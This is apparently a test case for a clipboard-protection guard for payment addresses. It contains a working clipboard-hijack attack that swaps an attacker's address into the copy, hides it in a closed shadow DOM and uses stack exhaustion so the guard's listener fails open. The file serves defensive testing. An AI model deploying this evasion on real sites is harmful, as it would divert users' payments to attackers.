// J03: a copy command from the last frames of an exhausted stack, where the guard's listener has no room to judge what is copied.
export default {
  id: 'J03',
  title: 'a copy command at the end of the stack',
  source: 'fail-open by RangeError',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  page: {
    body: (a) =>
      `<p>Deposit to <input id="address" readonly value="${a.GOOD}"> <button id="copy">Copy</button></p><input id="start" value="-"><input id="paste">`,
  },

  attack(a) {
    const hijack = (event) => {
      if (event.target.id !== 'copy') return;
      event.stopImmediatePropagation();
      // In a closed shadow tree, whose events show nothing to the window.
      const host = document.body.appendChild(document.createElement('div'));
      const area = host.attachShadow({ mode: 'closed' }).appendChild(document.createElement('textarea'));
      area.value = a.EVIL;
      area.select();
      let depth = 0;
      const dive = () => {
        try {
          dive();
        } catch {
          // The bottom.
        }
        depth += 1;
        if (depth > 2000 || depth % 20 > 0) return;
        try {
          document.execCommand('copy');
        } catch {
          // No room even for the call.
        }
      };
      dive();
      host.remove();
    };
    addEventListener('click', hijack, true);
  },

  async action() {
    // What an earlier run left on the clipboard is not what is pasted.
    await payeeguardTest.hands('chord', '#start', 'a');
    await payeeguardTest.hands('chord', '#start', 'c');
    document.querySelector('#copy').addEventListener('click', () => {
      document.querySelector('#address').select();
      document.execCommand('copy');
    });
    const { left, top } = document.querySelector('#copy').getBoundingClientRect();
    await payeeguardTest.hands('tap', '', `${Math.round(left + 5)},${Math.round(top + 5)}`);
    await payeeguardTest.hands('chord', '#paste', 'v');
    return document.querySelector('#paste').value;
  },

  stolen: ({ result, a }) => result === a.EVIL,
  arrived: ({ result, a }) => result === a.GOOD,
  violation: (a) => ({ surface: 'clipboard', grade: 'swapped', account: a.EVIL }),
};
